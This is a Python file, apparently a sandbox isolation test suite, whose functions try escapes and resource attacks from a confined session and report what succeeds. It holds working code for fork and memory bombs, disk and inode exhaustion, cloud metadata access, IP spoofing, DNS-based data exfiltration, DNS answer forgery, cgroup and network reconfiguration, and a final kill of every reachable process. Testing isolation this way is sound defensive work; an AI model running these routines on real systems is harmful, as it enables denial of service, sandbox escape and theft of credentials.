    """Everyone's traffic, and packets with a false sender."""
    found = []
    for family, kind, protocol in ((17, 3, 0x300), (17, 2, 0x300), (2, 3, 1), (2, 3, 255)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, protocol).close()
            found.append((family, kind, protocol))
    return str(found) if found else None


@attack
def hear_the_kernel_s_events() -> str | None:
    """Devices, processes and audit records of the whole machine (netlink)."""
    found = []
    for protocol in (9, 10, 11, 15, 18, 20):
        with contextlib.suppress(OSError):
            socket.socket(16, 3, protocol).close()
            found.append(protocol)
    return str(found) if found else None


@attack
def reach_another_session() -> str | None:
    """Its services on loopback and on abstract names: they trust whoever gets there."""
    found = []
    if connects(socket.AF_UNIX, b"\0" + FACTS["victim_name"].encode()):
        found.append("abstract socket")
    if connects(socket.AF_INET, ("127.0.0.1", FACTS["victim_port"])):
        found.append("loopback")
    if LIBC.shmget(FACTS["victim_key"], 0, 0) != -1:
        found.append("shared memory")
    if os.path.exists(f"/dev/shm/{FACTS['victim_name']}"):
        found.append("/dev/shm")
    return str(found) if found else None


@attack
def find_message_queues() -> str | None:
    """Orders to other people's programs (System V and POSIX)."""
    found = []
    if LIBC.msgget(FACTS["shm_key"], 0) != -1:
        found.append("System V")
    with contextlib.suppress(OSError):
        call("mq_open", FACTS["queue"].encode(), os.O_RDWR, 0, 0)
        found.append("POSIX")
    return str(found) if found else None


@attack
def find_semaphores() -> str | None:
    """Other programs wait for ever."""
    return "System V" if LIBC.semget(FACTS["shm_key"], 0, 0) != -1 else None


@attack
def type_by_a_disguised_request() -> str | None:
    """The same as typing, past a filter that compares more bits than the kernel."""
    _, slave = os.openpty()
    LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
    wide = [high | low for low in (0x5412, 0x541C, 0x541D) for high in (1 << 32, 0xFF << 32)]
    found = [hex(request) for request in wide if LIBC.ioctl(slave, request, b"x") == 0]
    return str(found) if found else None


# -- limits --------------------------------------------------------------------------------------


@attack
def raise_own_limits() -> str | None:
    """More than was paid for."""
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_MEMLOCK):
        _, hard = resource.getrlimit(kind)
        if hard != resource.RLIM_INFINITY:
            with contextlib.suppress(OSError, ValueError):
                resource.setrlimit(kind, (hard + 1, hard + 1))
                return f"limit {kind}"
    return None if resource.getrlimit(resource.RLIMIT_CORE) == (0, 0) else "core files"


@attack
def go_before_others() -> str | None:
    """The whole processor, before everyone."""
    with contextlib.suppress(OSError):
        return f"nice {os.nice(-5)}"
    os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))
    return "real time"


@attack
def take_huge_pages() -> str | None:
    """Memory that the administrator set aside for others, outside of our memory limit."""
    found = []
    tries: dict[str, tuple[object, ...]] = {
        "mmap": (0, 1 << 21, 3, 0x40022, -1, 0),
        "memfd_create": (b"huge", 4),
        "shmget": (0, 1 << 21, 0o4000 | 0o1600),
    }
    for name, arguments in tries.items():
        try:
            call(name, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
        except OSError as exc:
            if exc.errno in {errno.EINVAL, errno.ENOSYS, errno.EPERM}:
                continue  # ENOMEM: it was let in, and there is none just now.
        found.append(name)
    return str(found) if found else None


@attack
def be_spared_when_memory_is_short() -> str | None:
    """Others are killed instead."""
    with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
        file.write("-900")
    return "oom_score_adj -900"


@needs("cpu")
@attack
def use_all_processors() -> str | None:
    """More than was paid for."""
    before = os.sched_getaffinity(0)
    with contextlib.suppress(OSError):
        os.sched_setaffinity(0, range(os.cpu_count() or 1))
        os.sched_setaffinity(0, range(64))
    after = os.sched_getaffinity(0)
    return None if len(after) <= FACTS["cpus"] else f"{before} → {after}"


@attack
def change_the_control_group() -> str | None:
    """No limits at all; release_agent runs a program as root."""
    found = opens(files_below("/sys/fs/cgroup"), os.O_WRONLY)
    if found:
        return found
    for folder, _, _ in os.walk("/sys/fs/cgroup"):
        with contextlib.suppress(OSError):
            os.mkdir(f"{folder}/mine")
            return f"made {folder}/mine"
    return None


@attack
def see_its_place_among_control_groups() -> str | None:
    """Names of the host's tree: how many sessions there were, where else to look."""
    with open("/proc/self/cgroup", encoding="utf-8") as file:
        paths = {line.strip().split(":", 2)[2] for line in file}
    ours = {path for path in paths if FACTS["groups"] in path}
    return f"sees its place in the host's tree: {ours}" if ours else None


@attack
def change_clock_and_name() -> str | None:
    """Certificates that expire, logs that lie."""
    with contextlib.suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        return "clock"
    socket.sethostname("mine")
    return "hostname"


# -- bombs: each in a session of its own ---------------------------------------------------------

BLOCK = 1 << 20


def times_the_limit(taken_bytes: int) -> str | None:
    return f"{taken_bytes} bytes" if taken_bytes > 2 * FACTS["mem_bytes"] else None


@needs("mem")
@bomb
def eat_memory() -> str | None:
    """The machine swaps, other people's programs are killed."""
    held = [b"x" * BLOCK for _ in range(4 * FACTS["mem_bytes"] // BLOCK)]
    return times_the_limit(len(held) * BLOCK)


@needs("mem")
@bomb
def eat_memory_in_nameless_files() -> str | None:
    """Memory that is no process's: memfd."""
    taken = 0
    for _ in range(200):
        fd = os.memfd_create("x")
        for _ in range(4):
            taken += os.write(fd, b"x" * BLOCK)
    return times_the_limit(taken)


@needs("mem")
@bomb
def eat_memory_in_shared_folders() -> str | None:
    """Memory that is no process's: files in /dev/shm, beyond its size too."""
    taken = 0
    with contextlib.suppress(OSError):
        for number in range(1000):
            with open(f"/dev/shm/{number}", "wb", buffering=0) as file:
                taken += file.write(b"x" * BLOCK)
    return times_the_limit(taken)


@needs("mem")
@bomb
def eat_memory_in_segments() -> str | None:
    """Memory that is no process's: System V, which outlives its makers."""
    LIBC.shmat.restype = ctypes.c_void_p
    taken = 0
    for _ in range(200):
        segment = LIBC.shmget(0, 4 * BLOCK, 0o1600)
        address = LIBC.shmat(segment, None, 0)
        ctypes.memset(address, 1, 4 * BLOCK)
        LIBC.shmdt(ctypes.c_void_p(address))
        taken += 4 * BLOCK
    return times_the_limit(taken)


@needs("mem")
@bomb
def eat_memory_in_pipes_and_sockets() -> str | None:
    """Buffers inside the kernel, which no process is billed for."""
    resource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE)[1:] * 2)
    taken, held = 0, []
    with contextlib.suppress(OSError):
        while taken <= 2 * FACTS["mem_bytes"]:
            pair = socket.socketpair()
            pair[0].setblocking(False)
            held.append(pair)
            with contextlib.suppress(BlockingIOError):
                while True:
                    taken += pair[0].send(b"x" * 65536)
    return times_the_limit(taken)


@needs("mem")
@bomb
def eat_memory_in_names() -> str | None:
    """Inodes and names of files without content, in a folder that is made of memory."""
    count = 0
    with contextlib.suppress(OSError):
        while count < 2_000_000:
            os.close(os.open(f"/dev/shm/{count:0200}", os.O_CREAT | os.O_WRONLY))
            count += 1
    return f"{count} names" if count * 1024 > 2 * FACTS["mem_bytes"] else None


@bomb
def use_up_watches_and_timers() -> str | None:
    """Nobody else gets one: inotify, timers, queues."""
    made = 0
    with contextlib.suppress(OSError):
        while made < 100_000:
            if LIBC.inotify_init1(0) == -1:
                break
            made += 1
    queues = 0
    with contextlib.suppress(OSError):
        while queues < 100_000:
            call("mq_open", b"q%d" % queues, os.O_CREAT | os.O_RDWR, 0o600, 0)
            queues += 1
    return f"{made} watchers, {queues} queues" if max(made, queues) >= 100_000 else None


@needs("pids")
@bomb
def fork_without_end() -> str | None:
    """Nobody can start a program any more."""
    made = 0
    with contextlib.suppress(OSError):
        while made < 4 * FACTS["pids"]:
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    while True:
                        os.fork()
                time.sleep(1000)
            made += 1
    return f"{made} processes" if made > FACTS["pids"] else None


@needs("disk")
@bomb
def write_without_end() -> str | None:
    """The machine's disk is full, for everybody."""
    taken = 0
    for folder in ("/work", "/tmp", "/outputs", "/home/user", "/var/tmp"):
        with contextlib.suppress(OSError), open(f"{folder}/big", "wb", buffering=0) as file:
            while taken <= 4 * FACTS["disk_bytes"]:
                taken += file.write(b"x" * BLOCK)
    return f"{taken} bytes" if taken > 2 * FACTS["disk_bytes"] else None


@needs("disk")
@bomb
def reserve_without_writing() -> str | None:
    """The same by holes and reservations, which no count of written bytes sees."""
    taken = 0
    with open("/work/holes", "wb") as file:
        with contextlib.suppress(OSError):
            os.ftruncate(file.fileno(), 1 << 40)
        for size in (1 << 30, BLOCK, 4096):
            with contextlib.suppress(OSError):
                while taken <= 4 * FACTS["disk_bytes"]:
                    os.posix_fallocate(file.fileno(), taken, size)
                    taken += size
    return f"{taken} bytes" if taken > 2 * FACTS["disk_bytes"] else None


@needs("disk")
@bomb
def use_up_inodes() -> str | None:
    """A disk with room on which nobody can make a file."""
    count = 0
    with contextlib.suppress(OSError):
        while count <= FACTS["disk_bytes"] // 1024:
            os.close(os.open(f"/work/{count}", os.O_CREAT | os.O_WRONLY))
            count += 1
    return f"{count} files" if count > FACTS["disk_bytes"] // 1024 else None


@bomb
def write_output_without_end() -> str | None:
    """The platform's own disk is full: of output (the test looks at what is kept)."""
    block = b"x" * 65536
    for _ in range(FACTS["log_bytes"] * 6 // len(block)):
        os.write(1, block)
        os.write(2, block)
    return None


# -- with a network ------------------------------------------------------------------------------


def answered(link: socket.socket, to: tuple[str, int], data: bytes = b"echo") -> bool:
    """Whether what was sent by UDP came back."""
    with contextlib.suppress(OSError):
        link.settimeout(0.5)
        link.sendto(data, to)
        return bool(link.recv(4096))
    return False


def reached(hosts: list[str], *ports: int) -> str | None:
    """Which of them took a connection, or answered by UDP."""
    found = []
    for host in hosts:
        found += [f"{host}:{port}" for port in ports if connects(socket.AF_INET, (host, port))]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            found += [f"{host}:{p}/udp" for p in FACTS["echoes"] if answered(link, (host, p))]
    return ", ".join(found) or None


@wired
def reach_the_machine_s_services() -> str | None:
    """Databases and administration that trust the machine's neighbours."""
    return reached(FACTS["machine"], FACTS["machine_port"])


@wired
def reach_the_machine_s_loopback_by_the_wire() -> str | None:
    """Services that listen on 127.0.0.1 because nobody else can reach it."""
    with socket.socket() as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        link.settimeout(1)
        link.connect(("127.0.0.1", FACTS["machine_port"]))
        return "connected"


@wired
def read_metadata() -> str | None:
    """The machine's credentials for its cloud."""
    return reached(["169.254.169.254", "169.254.170.2"], 80)


@wired
def reach_private_addresses() -> str | None:
    """Printers, file servers and other people's machines behind the same wall."""
    return reached(FACTS["private"], 80)


@wired
def reach_another_session_by_its_address() -> str | None:
    """Its services, which it thinks nobody else can reach."""
    return reached([FACTS["victim"]], FACTS["victim_port"])


@wired
def reach_what_is_not_allowed() -> str | None:
    """The internet, from a session that may reach one site of it."""
    return reached(FACTS["not_allowed"], 80, 443)


@wired
def speak_to_everybody() -> str | None:
    """Neighbours answer broadcasts and multicasts, printers and routers first."""
    found = []
    for host in ("255.255.255.255", "224.0.0.1", "239.255.255.250", FACTS["broadcast"]):
        with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            link.sendto(b"echo", (host, 7))
            found.append(host)
    return ", ".join(found) or None


@wired
def send_from_another_address() -> str | None:
    """What we do is said to be done by another session; answers to it come to us."""
    found = []
    for option in (15, 19):  # IP_FREEBIND, IP_TRANSPARENT
        for source in (FACTS["victim"], FACTS["open"], FACTS["machine"][0]):
            with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
                link.setsockopt(socket.IPPROTO_IP, option, 1)
                link.bind((source, 0))
                link.sendto(b"echo", (FACTS["open"], FACTS["echoes"][0]))
                found.append(f"{source} by option {option}")
    return ", ".join(found) or None


@wired
def choose_the_way() -> str | None:
    """Routers that obey a source route carry us past a list of addresses."""
    hop, target = socket.inet_aton(FACTS["open"]), socket.inet_aton(FACTS["private"][0])
    found = []
    for kind in (131, 137):  # Loose, strict.
        with contextlib.suppress(OSError), socket.socket(2, socket.SOCK_DGRAM) as link:
            link.setsockopt(0, socket.IP_OPTIONS, bytes([kind, 11, 4]) + hop + target + b"\0")
            link.sendto(b"echo", (FACTS["private"][0], FACTS["echoes"][0]))
            found.append(str(kind))
    return ", ".join(found) or None


@wired
def play_with_the_wire() -> str | None:
    """Forged ARP, false packets, other people's packets."""
    found = []
    for family, kind, protocol in ((17, 3, 0x0300), (17, 2, 0x0608), (2, 3, 255), (2, 3, 1)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, protocol).close()
            found.append(str((family, kind, protocol)))
    return ", ".join(found) or None


@wired
def change_our_own_network() -> str | None:
    """No rules, no limit of bandwidth, somebody else's address."""
    found = []
    with contextlib.suppress(OSError):
        socket.socket(16, 3, 12).close()
        found.append("nftables")
    with socket.socket(16, 3, 0) as link:  # Open to all, to look.
        index = socket.if_nametoindex("eth0")
        changes = {
            "link": (16, struct.pack("=BxHiII", 0, 0, index, 0, 1)),
            "address": (20, struct.pack("=BBBBi", 2, 24, 0, 0, index) + b"\x08\0\2\0\x0a\0\0\1"),
            "route": (26 - 2, struct.pack("=8BI", 2, 0, 0, 0, 254, 3, 253, 1, 0)),
            "queue": (37, struct.pack("=BxxxiIII", 0, index, 0, 0xFFFFFFFF, 0)),
        }
        for name, (number, body) in changes.items():
            link.send(struct.pack("=IHHII", 16 + len(body), number, 0x405, 1, 0) + body)
            if not int.from_bytes(link.recv(4096)[16:20], "little"):
                found.append(name)
    with socket.socket() as link:
        for number in (0x8914, 0x8916, 0x8922, 0x8924):  # Flags, address, MTU, hardware address.
            with contextlib.suppress(OSError):
                fcntl.ioctl(link, number, struct.pack("16sHxxI16x", b"eth0", 2, 0x0A0A0A0A))
                found.append(hex(number))
    for path in ("ipv4/ip_forward", "ipv6/conf/all/disable_ipv6", "ipv4/conf/eth0/forwarding"):
        with contextlib.suppress(OSError), open(f"/proc/sys/net/{path}", "w") as file:
            file.write("1")
            found.append(path)
    return ", ".join(found) or None


@wired
def leave_by_ipv6() -> str | None:
    """A second network, which nobody thought of."""
    index, found = socket.if_nametoindex("eth0"), []
    for host in ("2001:db8::1", "fe80::1", "ff02::1", "::ffff:" + FACTS["private"][0]):
        with contextlib.suppress(OSError), socket.socket(10, socket.SOCK_DGRAM) as link:
            link.sendto(b"echo", (host, 7, 0, index))
            found.append(host)
    return ", ".join(found) or None


@wired
def ask_other_name_servers() -> str | None:
    """Names are a way out: what is asked for can carry data, and answers too."""
    question = bytes.fromhex("000101000001000000000000") + b"\4good\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        if answered(link, (FACTS["resolver"], 53), question):
            return "by UDP"
    return "by TCP" if connects(socket.AF_INET, (FACTS["resolver"], 53)) else None


@wired
def carry_data_out_by_names() -> str | None:
    """Whoever runs a name server reads what is looked up there."""
    found = []
    names = ["secret.other.example", "other.example", "secret.good.example.other.example"]
    names += ["xgood.example", "good.example.", "good\\.example.other.example"]
    for name in names:
        with contextlib.suppress(OSError):
            if socket.gethostbyname(name) and name.rstrip(".") != "good.example":
                found.append(name)
    return ", ".join(found) or None


@wired
def point_a_name_at_what_is_forbidden() -> str | None:
    """An allowed name whose owner answers with an address behind the wall."""
    with contextlib.suppress(OSError):
        socket.gethostbyname_ex("evil.example")
    return reached([*FACTS["private"], *FACTS["machine"]], 80, FACTS["machine_port"])


@wired
def forge_answers_to_the_warden() -> str | None:
    """It believes that an allowed name has the address that we like to reach."""
    address = socket.inet_aton(FACTS["not_allowed"][0])
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + address
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        for number in range(2000):
            head = struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0)
            name = b"\4good\7example\0\0\1\0\1"
            with contextlib.suppress(OSError):
                link.sendto(head + name + record, ("127.0.0.53", 53))
    return reached(FACTS["not_allowed"][:1], 80)


@wired
def speak_other_protocols() -> str | None:
    """Rules that look at TCP and UDP alone."""
    found = []
    for kind, protocol in ((2, 136), (1, 132), (5, 132), (6, 33), (2, 1)):
        with contextlib.suppress(OSError), socket.socket(2, kind, protocol) as link:
            link.settimeout(0.5)
            link.connect((FACTS["private"][0], 80))
            link.send(b"\x08\0\0\0\0\0\0\0" if protocol == 1 else b"echo")
            found.append(str(protocol))
    return ", ".join(found) or None


@wired
def fill_the_table_of_connections() -> str | None:
    """Nobody on the machine can connect any more: its table holds so many (the test counts)."""
    refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        for port in range(1, 9000):
            try:
                link.sendto(b"x", (FACTS["open"], port))
            except PermissionError:
                refused += 1
            except OSError:
                continue
    return None if refused > 2000 else f"only {refused} of 9000 were refused"


@wired
def find_the_warden() -> str | None:
    """It may change the rules: stop it, or make it do so."""
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/comm") as file:
                found += [pid] * file.read().startswith("madang-network")
    for name in os.listdir("/"):
        found += [name] * name.startswith("network.")
    return ", ".join(found) or None


def attempt(function: Callable[[], str | None]) -> str | None:
    """In a child of its own: whatever it does to itself, the next one is not affected."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        FACTS["own_fds"] = [reader, writer]
        signal.alarm(FACTS.get("patience_s", 10))
        try:
            gained = function()
        except OSError:
            gained = None
        except BaseException as exc:
            gained = f"broke: {exc!r}"
        os.write(writer, (gained or "").encode()[:4000])
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader, "rb") as pipe:
        gained_text = pipe.read().decode()
    _, state = os.waitpid(pid, 0)
    if os.WIFSIGNALED(state) and os.WTERMSIG(state) == signal.SIGALRM:
        return "hung"
    return gained_text or None


def main() -> None:
    FACTS.update(json.loads(sys.argv[1]))
    if len(sys.argv) > 2 and sys.argv[2] == "wired":
        for name in FACTS["attacks"]:
            print(json.dumps([name, attempt(WIRED[name])]), flush=True)
        return
    if len(sys.argv) > 2:
        print("\ngained", json.dumps(BOMBS[sys.argv[2]]()), flush=True)
        return
    for name, function in ATTACKS.items():
        print(json.dumps([name, attempt(function)]), flush=True)
    # Last: whoever else can be reached would be gone now.
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGTERM)


if __name__ == "__main__":
    main()
